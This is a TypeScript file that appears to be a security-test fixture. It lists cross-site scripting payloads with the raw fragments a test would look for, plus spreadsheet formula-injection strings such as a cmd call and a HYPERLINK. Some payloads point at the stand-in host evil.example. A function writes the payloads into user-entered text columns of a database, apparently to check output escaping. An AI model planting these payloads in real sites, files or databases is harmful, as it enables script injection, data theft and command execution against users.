import Database from "libsql";

/** What a visitor's browser would run, and the piece of it that stands nowhere in a page where it is shown as text. */
export const payloads: readonly { text: string; raw: string | null }[] = [
  { text: "<script>attack()</script>", raw: "<script>attack" },
  { text: "</script><script>attack()</script>", raw: "</script><script>attack" },
  { text: '"><svg onload=attack()>', raw: "<svg onload" },
  { text: "'><img src=x onerror=attack()>", raw: "<img src=x" },
  { text: "<img src=x onerror=attack()//", raw: "<img src=x" },
  { text: "<svg/onload=attack()>", raw: "<svg/onload" },
  { text: '<a href="javascript:attack()">click</a>', raw: '<a href="javascript:' },
  { text: "javascript:attack()", raw: null },
  { text: " java\tscript:attack()", raw: null },
  { text: "data:text/html,<script>attack()</script>", raw: "<script>attack" },
  { text: '" onmouseover="attack()', raw: '" onmouseover="' },
  { text: "' onfocus='attack()' autofocus='", raw: null },
  { text: "<iframe srcdoc='<script>attack()</script>'>", raw: "<iframe srcdoc" },
  { text: "<math><mtext></mtext><script>attack()</script></math>", raw: "<math>" },
  { text: "</textarea><script>attack()</script>", raw: "</textarea><script>" },
  { text: "</title><script>attack()</script>", raw: "</title><script>" },
  { text: "</style><script>attack()</script>", raw: "</style><script>" },
  { text: "<!--<script>attack()", raw: "<!--<script" },
  { text: "--><script>attack()</script>", raw: "--><script" },
  { text: "{{constructor.constructor('attack()')()}}", raw: null },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is the string itself
  { text: "${attack()}", raw: null },
  { text: "attack\u2028attack()\u2029", raw: null },
  { text: "\\u003cscript\\u003eattack()", raw: null },
  { text: "&lt;script&gt;attack()&lt;/script&gt;", raw: "<script>attack" },
  { text: "[attack](javascript:attack())", raw: null },
  { text: "![attack](javascript:attack())", raw: null },
  { text: "<style>@import'//evil.example'</style>", raw: "<style>@import" },
  { text: "<base href=//evil.example>", raw: "<base href" },
  { text: "<meta http-equiv=refresh content=0;url=//evil.example>", raw: "<meta http-equiv=refresh" },
  { text: "<form action=//evil.example><button>attack", raw: "<form action=//" },
];

export const formulas = [
  "=cmd|'/c calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "＝1",
  '=HYPERLINK("//evil.example")',
];

/** Columns that hold what somebody typed, whatever way it came in. */
const typed =
  /^(name|title|(first|last)Name|jobTitle|role|vendor|reason|notes?|text|description|(executive)?Summary|comments?|feedback|justification|detail|evidence|invitedBusinessName|orderNumber|businessName|check|recommendation|observation|fileName|message|help(What|Why|Good)|device|(\w+)?(Note|Reason|Text|ByName))$/i;

/** Past every form and check, into every text in the database; gives how many it reached. */
export function putEverywhere(texts: readonly string[]): number {
  const database = new Database((process.env.DATABASE_URL ?? "").replace(/^file:/, ""));
  const columns = database
    .prepare(`SELECT m."name" AS "table", c."name" AS "column" FROM "sqlite_master" m, pragma_table_info(m."name") c
      WHERE m."type" = 'table' AND c."type" = 'TEXT' AND c."pk" = 0 ORDER BY 1, 2`)
    .all() as { table: string; column: string }[];
  // The log is sealed: the database itself refuses.
  const meant = columns.filter(({ table, column }) => table !== "AuditEvent" && typed.test(column));
  let reached = 0;
  database.exec("BEGIN IMMEDIATE");
  for (const [number, { table, column }] of meant.entries()) {
    const rows = database.prepare(`SELECT rowid AS "id" FROM "${table}" WHERE "${column}" IS NOT NULL LIMIT 300`).all();
    const put = database.prepare(`UPDATE OR IGNORE "${table}" SET "${column}" = ? WHERE rowid = ?`);
    for (const [place, { id }] of (rows as { id: number }[]).entries())
      reached += changed(() => put.run(texts[(place + number) % texts.length], id).changes);
  }
  database.exec("COMMIT");
  database.close();
  return reached;
}

/** Some columns hold one of a few words, and refuse all else. */
function changed(write: () => number): number {
  try {
    return write();
  } catch {
    return 0;
  }
}
